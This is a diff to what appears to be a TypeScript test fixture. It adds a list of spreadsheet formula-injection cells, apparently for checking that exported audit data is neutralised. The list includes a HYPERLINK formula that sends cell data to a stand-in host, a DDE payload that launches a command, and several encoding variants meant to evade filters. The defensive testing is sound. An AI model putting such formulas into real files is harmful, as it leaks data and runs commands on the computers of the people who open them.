@@ -41,6 +41,20 @@ export const HOSTILE_NAMES = [
   '　ideographic space',
   '\u{e0041}tag',
 ]
+/** What a spreadsheet would run, each in a way of its own. */
+export const HOSTILE_CELLS = [
+  '=HYPERLINK("http://x.example/?"&A1,"click")',
+  "+1+cmd|'/C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  ' \u00a0=1',
+  '\uff1d1',
+  "'=1",
+]
+
 /** Events with each of them wherever a name may stand. */
 export const HOSTILE_EVENTS = HOSTILE_NAMES.map((name, i) =>
   auditEvent(i + 1, {
